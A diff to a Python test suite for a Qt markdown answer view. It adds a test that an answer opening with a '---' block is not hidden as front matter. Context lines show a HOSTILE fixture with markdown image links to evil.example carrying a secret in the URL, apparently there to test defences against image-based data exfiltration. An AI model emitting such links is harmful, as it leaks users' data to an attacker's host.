@@ -208,6 +208,15 @@ def test_tricky_markdown_streams_like_its_full_rendering(qtbot, view, text: str)
     assert body(view).toHtml() == rendered_at_once(qtbot, text).toHtml()
 
 
+def test_an_answer_that_opens_with_a_rule_is_not_hidden_as_front_matter(qtbot, view) -> None:
+    """Qt hides a leading "---" block as YAML front matter: the model's words must show."""
+    text = "---\ntitle: the first lines of the answer\n---\n\nThe rest."
+    view.update_text(ANSWER_ID, text)
+    finish(view, text)
+    assert "title: the first lines of the answer" in body(view).toPlainText()
+    assert "title: the first lines" in rendered_at_once(qtbot, text).toPlainText()
+
+
 HOSTILE = (
     "Here is your data ![chart](https://evil.example/leak?secret=hunter2) inline.\n\n"
     "![ref image][r]\n\n[r]: http://evil.example/r.png\n\n"
